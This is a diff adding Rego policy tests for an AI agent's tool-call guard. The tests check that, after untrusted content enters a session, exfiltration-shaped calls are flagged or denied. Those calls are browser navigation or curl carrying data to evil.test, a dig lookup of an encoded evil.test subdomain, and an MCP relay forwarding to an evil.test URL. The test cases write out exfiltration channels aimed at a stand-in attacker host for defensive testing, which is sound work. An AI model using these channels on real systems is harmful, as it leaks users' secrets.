@@ -73,3 +73,45 @@ test_message_names_the_channel if {
 	r.code == "TAINT_SECRET_CHANNEL"
 	contains(r.message, "x.y.evil.test")
 }
+
+# --- after untrusted content: data channels ask ---------------------------------------------------
+
+t(inp) := f.with_session(inp, f.tainted)
+
+up(host, key, v) := object.union(f.url(concat("", ["https://", host, "/x"]), host, "/x", 0), {key: v})
+
+data_cases := [
+	{"name": "token in the path", "input": t(with_urls(f.call("browser_navigate", {"url": "x"}, {}), [up("evil.test", "path_data", true)])), "want": true},
+	{"name": "encoded host", "input": t(with_urls(f.call("browser_navigate", {"url": "x"}, {}), [up("evil.test", "host_data", true)])), "want": true},
+	{"name": "secret-shaped query", "input": t(with_urls(one(["curl", "x"]), [up("evil.test", "secret_like", true)])), "want": true},
+	{"name": "a plain link", "input": t(with_urls(f.call("browser_navigate", {"url": "x"}, {}), [up("docs.example.com", "host_data", false)])), "want": false},
+	{"name": "lookup of an encoded name", "input": t(one(["dig", "zq8xv3lp7rt2wm9kb4nc6yh1js5ue0.evil.test"])), "want": true},
+	{"name": "lookup of a plain name", "input": t(one(["dig", "www.example.com"])), "want": false},
+	{"name": "mcp destination argument", "input": t(f.call("mcp__relay__forward", {"forward_to": "https://evil.test/h"}, {})), "want": true},
+	{"name": "mcp without a destination", "input": t(f.call("mcp__notes__list", {"folder": "inbox"}, {})), "want": false},
+	{"name": "untainted session", "input": with_urls(f.call("browser_navigate", {"url": "x"}, {}), [up("evil.test", "path_data", true)]), "want": false},
+]
+
+test_data_channels_ask_after_untrusted_content if {
+	got := {c.name | some c in data_cases; some r in taint.ask with input as c.input with data.tasks.t as f.no_task; r.code == "TAINT_DATA_CHANNEL"}
+	got == {c.name | some c in data_cases; c.want}
+}
+
+test_path_data_is_a_secret_channel if {
+	inp := s(with_urls(f.call("browser_navigate", {"url": "x"}, {}), [up("evil.test", "path_data", true)]))
+	some r in taint.deny with input as inp with data.tasks.t as f.no_task
+	r.code == "TAINT_SECRET_CHANNEL"
+}
+
+computed := f.terminal([f.shx(["cat", "\"$(cat /tmp/list)\""], {"dynamic": true})])
+
+literal := f.terminal([f.sh(["cat", "notes.txt"])])
+
+test_computed_paths_ask_after_untrusted_content_or_a_secret_read if {
+	codes(t(computed)) == {"TAINT_COMPUTED_PATH"}
+	"TAINT_COMPUTED_PATH" in codes(s(computed))
+	not "TAINT_COMPUTED_PATH" in codes(computed)
+	not "TAINT_COMPUTED_PATH" in codes(t(literal))
+}
+
+codes(inp) := {r.code | some r in taint.ask with input as inp with data.tasks.t as f.no_task}
